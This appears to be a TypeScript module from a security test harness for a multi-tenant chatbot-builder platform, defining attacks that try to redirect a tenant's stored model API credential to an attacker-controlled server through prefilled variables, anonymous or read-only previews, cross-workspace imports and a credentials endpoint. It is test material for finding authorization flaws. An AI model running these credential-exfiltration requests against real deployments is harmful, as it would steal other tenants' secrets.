/** Secrets of a tenant on their way to the attacker's server. */
import { ask, type Got } from "../ask.ts"
import type { Attack } from "../attack.ts"
import { block, flowOf } from "../flow.ts"
import type { SecretBot, Target } from "../target.ts"

/** A flow that asks a model; its address is a variable that the author meant to set. */
export function askingModel(credentialsId: string, baseUrl: string): object {
  const asks = block("openai", {
    credentialsId,
    baseUrl,
    action: "Create chat completion",
    model: "any",
    messages: [{ role: "user", content: "Hello" }],
  })
  return flowOf([asks, block("text input")], { values: { H: "https://api.openai.com/v1" } })
}

/** A flow that sends the same credential to any address. */
const askingAnybody = (credentialsId: string, url: string) =>
  askingModel(credentialsId, `${url}/v1`)

const theft = (
  name: string,
  door: Attack["door"],
  work: (target: Target, bot: SecretBot) => Promise<Got>,
): Attack => ({
  name,
  door,
  crowd: 1,
  run: async (target) => {
    const bot = await target.secretBot()
    // What an earlier attack got is none of this one's.
    target.heard()
    const got = await work(target, bot)
    // What was stolen stands in the answer of the drill, for the judge to see.
    return target.heard().includes(bot.secret) ? { ...got, text: `stolen: ${bot.secret}` } : got
  },
  judge: ({ status, text }) => {
    if (status === 0) return `no answer: ${text}`
    return text.startsWith("stolen: ") ? "the secret reached the attacker" : undefined
  },
})

const preview = (target: Target, botId: string, bot: object, token?: string) =>
  ask(target.address, {
    path: `/api/v1/bots/${botId}/preview/startChat`,
    body: { bot },
    ...(token !== undefined && { token }),
  })

export const thefts: Attack[] = [
  theft("address of a model by a prefilled variable", "prefilled at start", (target, bot) =>
    ask(target.address, {
      path: `/api/v1/bots/${bot.publicId}/startChat`,
      body: { prefilledVariables: { H: `${target.upstreamUrl}/v1` } },
    }),
  ),
  theft("flow of somebody who may only read the bot", "preview with token", (target, bot) => {
    const flow = askingAnybody(bot.credentialsId, target.upstreamUrl)
    return preview(target, bot.botId, flow, bot.readerToken ?? "")
  }),
  theft("flow of nobody", "anonymous preview", (target, bot) =>
    preview(target, bot.botId, askingAnybody(bot.credentialsId, target.upstreamUrl)),
  ),
  theft(
    "credential of another tenant in a bot of one's own",
    "preview with token",
    async (target, bot) => {
      const flow = askingAnybody(bot.credentialsId, target.upstreamUrl)
      const token = bot.readerToken ?? ""
      const sent = { token, body: { name: "Thieves" } }
      const made = await ask(target.address, { path: "/api/v1/workspaces", ...sent })
      const workspaceId = (JSON.parse(made.text) as { workspace: { id: string } }).workspace.id
      const body = { workspaceId, bot: flow }
      const imported = await ask(target.address, { path: "/api/v1/bots/import", token, body })
      const own = (JSON.parse(imported.text) as { bot: { id: string } }).bot.id
      return preview(target, own, flow, token)
    },
  ),
  theft("list of credentials", "REST", async (target, bot) => {
    const path = `/api/v1/credentials/${bot.credentialsId}`
    const got = await ask(target.address, { path, token: bot.readerToken ?? "" })
    return got.text.includes(bot.secret) ? { ...got, text: `stolen: ${bot.secret}` } : got
  }),
]
